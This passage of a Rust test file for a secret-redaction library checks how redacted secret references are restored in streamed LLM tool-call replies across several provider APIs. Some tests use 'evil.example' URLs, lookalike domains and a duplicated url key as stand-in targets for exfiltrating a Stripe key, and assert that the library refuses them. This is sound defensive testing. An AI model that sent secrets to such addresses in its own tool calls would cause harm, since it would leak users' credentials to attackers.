        format!(r#"{{"url":"{stripe}","h":"{}","url":"https://evil.example/"}}"#, reference(0));
    let input = stream(Api::Anthropic, SSE, "http", &[&twice]);
    assert_eq!(restored(Api::Anthropic, SSE, &input).0, input);
}

#[test]
fn r11_without_a_rule_there_is_nothing_to_restore() {
    let pre_send = PreSend::builder(Guard::from(redactor()), key()).build().unwrap();
    assert!(pre_send.reply(Api::Anthropic, SSE).is_none());
    assert!(self::pre_send().reply(Api::Anthropic, "text/html").is_none());
    assert!(self::pre_send().reply(Api::Slack, JSON).is_none());
    let bad = PreSend::builder(Guard::from(redactor()), key());
    let error = bad.restore(rule("secret = '{a'\ntool = 'x'")).build().unwrap_err();
    assert!(error.to_string().contains("{a"), "{error}");
}

#[test]
fn r12_an_injected_address_gets_nothing() {
    for url in [
        format!("https://evil.example/?k={}", reference(0)),
        format!("https://{}.stripe.com/", reference(0)),
        format!("https://api.stripe.com.evil.example/#{}", reference(0)),
    ] {
        let text = json!({"url": url}).to_string();
        let input = stream(Api::OpenAiChat, SSE, "http", &strs(&pieces(&text, 3)));
        let (out, report) = restored(Api::OpenAiChat, SSE, &input);
        assert_eq!(out, input);
        assert_eq!(report.refused, BTreeMap::from([(Unrestored::Address, 1)]), "{url}");
    }
}

#[test]
fn r13_without_a_reference_no_event_is_held() {
    // No piece ends in what a reference begins with.
    let text =
        json!({"path": "/x/ Some Sentence of SECRET stories", "n": "é".repeat(40)}).to_string();
    for (api, kind) in STREAMS.into_iter().filter(|(_, kind)| *kind != JSON) {
        let all = call(api, "use_it", &text.split_inclusive(' ').collect::<Vec<_>>());
        let (mut reply, mut out, mut given) =
            (pre_send().reply(api, kind).unwrap(), Vec::new(), Vec::<u8>::new());
        for event in &all {
            let bytes = events(kind, std::slice::from_ref(event));
            given.extend(&bytes);
            reply.push(&bytes, &mut out);
            assert_eq!(out, given, "{api} {event}");
            assert_eq!(reply.held(), 0);
        }
    }
    let mut reply = pre_send().reply(Api::Anthropic, SSE).unwrap();
    let mut out = Vec::new();
    reply.push(b": ping\n", &mut out);
    assert_eq!(out, b": ping\n");
}

#[test]
fn r13_a_beginning_that_does_not_go_on_is_let_go() {
    let input = anthropic("use_it", &["{\"a\":\"SECRE", "TREF_d", "-\"}"]);
    let (mut reply, mut held) = (pre_send().reply(Api::Anthropic, SSE).unwrap(), Vec::new());
    for event in &input {
        reply.push(&events(SSE, std::slice::from_ref(event)), &mut Vec::new());
        held.push(reply.held() > 0);
    }
    let at = held.iter().position(|held| *held).unwrap();
    assert_eq!(held[at..at + 3], [true, true, false]);
}

#[test]
fn r13_what_is_held_is_bounded() {
    let long = json!({"a": reference(0), "b": "x".repeat(3000)}).to_string();
    for (api, kind) in STREAMS {
        for most in [0, 10, 300, 1000] {
            let pre_send = pre_send_holding(most);
            let input = stream(api, kind, "use_it", &strs(&pieces(&long, 50)));
            for size in [1, 100, input.len()] {
                let mut reply = pre_send.reply(api, kind).unwrap();
                let mut out = Vec::new();
                for chunk in input.chunks(size) {
                    reply.push(chunk, &mut out);
                    assert!(reply.held() <= most.max(1), "{api} held {}", reply.held());
                }
                reply.finish(&mut out);
                assert_eq!(out, input, "{api} with {most}");
            }
        }
    }
    let whole = whole(Api::Anthropic, "use_it", &long).to_string();
    let (out, _) = restored_by(&pre_send_holding(100), Api::Anthropic, JSON, &[whole.as_bytes()]);
    assert_eq!(out, whole.as_bytes());
}

#[test]
fn r14_frames_keep_their_checksums_and_others_pass() {
    let (text, expected) = both();
    let input = stream(Api::Bedrock, FRAMES, "use_it", &strs(&pieces(&text, 9)));
    let (out, _) = restored(Api::Bedrock, FRAMES, &input);
    assert_ne!(out, input);
    // Reading them holds both checksums of each frame against its bytes.
    assert_eq!(parsed(&arguments(&read_frames(&out))), expected);
    for at in [3, 9, 40, input.len() / 2] {
        let mut damaged = input.clone();
        damaged[at] ^= 1;
        assert_eq!(restored(Api::Bedrock, FRAMES, &damaged).0, damaged, "damaged at {at}");
    }
    // The last line has no end, and is still an event.
    let lines = stream(Api::Ollama, LINE, "use_it", &[&text]);
    let cut = lines.iter().position(|&byte| byte == b'\n').unwrap();
    let second = cut + 1 + lines[cut + 1..].iter().position(|&byte| byte == b'\n').unwrap();
    let (out, _) = restored(Api::Ollama, LINE, &lines[..second]);
    assert_eq!(parsed(&arguments(&read(LINE, &out))), expected);
}

#[test]
fn calls_of_one_number_are_told_apart_by_their_ids() {
    let chunk = |id: &str, arguments: &str| json!({"choices": [{"delta": {"tool_calls": [{"index": 0, "id": id, "function": {"name": "use_it", "arguments": arguments}}]}}]});
    let text = json!({"a": reference(0)}).to_string();
    let mut all = vec![chunk("one", &text), chunk("two", &text)];
    all.push(json!({"choices": [{"delta": {}, "finish_reason": "stop"}]}));
    let (out, report) = restored(Api::OpenAiChat, SSE, &events(SSE, &all));
    assert_eq!(report.restored["stripe-key"], 2);
    assert!(!String::from_utf8(out).unwrap().contains("SECRETREF_"));
}

#[test]
fn other_calls_of_openai() {
    let text = json!({"a": reference(1)}).to_string();
    let legacy = [
        json!({"choices": [{"index": 0, "delta": {"function_call": {"name": "use_it", "arguments": &text[..20]}}}]}),
        json!({"choices": [{"index": 0, "delta": {"function_call": {"arguments": &text[20..]}}, "finish_reason": "function_call"}]}),
    ];
    let (out, _) = restored(Api::OpenAiChat, SSE, &events(SSE, &legacy));
    let joined: String = read(SSE, &out)
        .iter()
        .map(|event| {
            event
                .pointer("/choices/0/delta/function_call/arguments")
                .unwrap()
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert_eq!(parsed(&joined)["a"], LINES);
    let shell = json!({"type": "response.output_item.done", "output_index": 0, "item": {
        "type": "local_shell_call", "action": {"type": "exec", "command": ["echo", reference(1)]}}});
    let (out, _) = restored(Api::OpenAiResponses, SSE, &events(SSE, &[shell]));
    assert_eq!(read(SSE, &out)[0]["item"]["action"]["command"][1], LINES);
    let custom = json!({"choices": [{"message": {"tool_calls": [{"type": "custom", "custom": {"name": "use_it", "input": reference(1)}}]}}]});
    let (out, _) = restored(Api::OpenAiChat, JSON, custom.to_string().as_bytes());
    let out: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(out.pointer("/choices/0/message/tool_calls/0/custom/input").unwrap(), LINES);
}

#[test]
fn strings_of_gemini_in_pieces() {
    let part = |call: Value| json!({"candidates": [{"content": {"parts": [{"functionCall": call}]}, "index": 0}]});
    let piece = |path: &str, text: &str| json!({"jsonPath": path, "stringValue": text, "willContinue": true});
    let made = reference(0);
    for (url, is_restored) in
        [("https://api.stripe.com/v1", true), ("https://evil.example/", false)]
    {
        for split in 0..=made.len() {
            let all = [
                part(json!({"name": "http", "willContinue": true})),
                part(
                    json!({"partialArgs": [piece("$.h.auth", "\"Bearer\" "), piece("$.h.auth", &made[..split])], "willContinue": true}),
                ),
                part(
                    json!({"partialArgs": [piece("$.h.auth", &made[split..])], "willContinue": true}),
                ),
                part(
                    json!({"partialArgs": [piece("$.h.auth", "!"), piece("$.url", url)], "willContinue": true}),
                ),
                part(json!({})),
                part(json!({"name": "other", "args": {"a": made}})),
            ];
            let input = events(SSE, &all);
            let (out, report) = restored(Api::Gemini, SSE, &input);
            assert_eq!(report.restored.contains_key("stripe-key"), is_restored, "split at {split}");
            assert_eq!(out != input, is_restored);
            let read = read(SSE, &out);
            let strings = read.iter().flat_map(|event| {
                let call = &event["candidates"][0]["content"]["parts"][0]["functionCall"];
                call["partialArgs"].as_array().cloned().unwrap_or_default()
            });
            let auth = strings.filter(|piece| piece["jsonPath"] == "$.h.auth");
            let auth: String =
                auth.map(|piece| piece["stringValue"].as_str().unwrap().to_owned()).collect();
            let expected = if is_restored { PLAIN } else { &made };
            assert_eq!(auth, format!("\"Bearer\" {expected}!"));
            assert_eq!(read[5], all[5]);
        }
    }
}

#[test]
fn a_store_gives_the_secrets_in_force() {
    use keepmum::store::SecretStore;

    let store = SecretStore::builder(Redactor::builder().build().unwrap()).open().unwrap();
    let rules = rule("secret = '*'\ntool = '*'");
    let pre_send =
        PreSend::builder(Guard::from(store.clone()), key()).restore(rules).build().unwrap();
    let body = whole(Api::Ollama, "any", &json!({"a": reference(0)}).to_string()).to_string();
    let run = || restored_by(&pre_send, Api::Ollama, JSON, &[body.as_bytes()]);
    let (out, report) = run();
    assert_eq!((out, report.unknown), (body.clone().into_bytes(), 1));
    store.add(Secret::new(SECRETS[0].0, PLAIN)).unwrap();
    assert_eq!(run().0, body.replace(&reference(0), PLAIN).into_bytes());
}

#[test]
fn a_value_of_two_names_has_the_reference_of_the_one_that_is_found() {
    let names = ["first", "second"];
    let builder = names
        .iter()
        .fold(Redactor::builder(), |builder, name| builder.secret(name, PLAIN).unwrap());
    let redactor = builder.build().unwrap();
    let found = redactor.find(PLAIN.as_bytes())[0].name().to_owned();
    let pre_send = PreSend::builder(Guard::from(redactor), key())
        .restorable(names.map(|name| Secret::new(name, PLAIN)).into())
        .restore(rule("secret = '*'\ntool = '*'"))
        .build()
        .unwrap();
    for name in names {
        let made = key().reference(name, PLAIN.as_bytes()).to_string();
        let body = whole(Api::Ollama, "any", &json!({"a": made}).to_string()).to_string();
        let (out, _) = restored_by(&pre_send, Api::Ollama, JSON, &[body.as_bytes()]);
        assert_eq!(out != body.into_bytes(), name == found);
    }
}

#[test]
fn replies_go_to_other_threads() {
    fn goes<T: Send>() {}
    goes::<keepmum::prompt::Reply>();
}

#[test]
fn nothing_printed_holds_a_value() {
    let text = both().0;
    let input = stream(Api::Anthropic, SSE, "use_it", &[&text]);
    let mut reply = pre_send().reply(Api::Anthropic, SSE).unwrap();
    let mut out = Vec::new();
    for chunk in input.chunks(11) {
        reply.push(chunk, &mut out);
        let shown = format!("{reply:?}");
        assert!(!shown.contains("horse") && !shown.contains("quoted"), "{shown}");
    }
    let report = reply.finish(&mut out);
    assert_eq!(report.restored.keys().collect::<Vec<_>>(), ["signing-text", "stripe-key"]);
}

#[test]
fn a_document_that_cannot_be_read_ends_what_is_open() {
    let text = json!({"a": reference(0)}).to_string();
    let mut all = anthropic("use_it", &[&text]);
    let at = all.len() - 3;
    all.insert(at, Value::from("{broken"));
    let input = events(SSE, &all);
    assert_eq!(restored(Api::Anthropic, SSE, &input).0, input);
    let mut bytes = stream(Api::Anthropic, SSE, "use_it", &[&text]);
    bytes.push(0xff);
    assert!(restored(Api::Anthropic, SSE, &bytes).0.ends_with(b"\xff"));
}
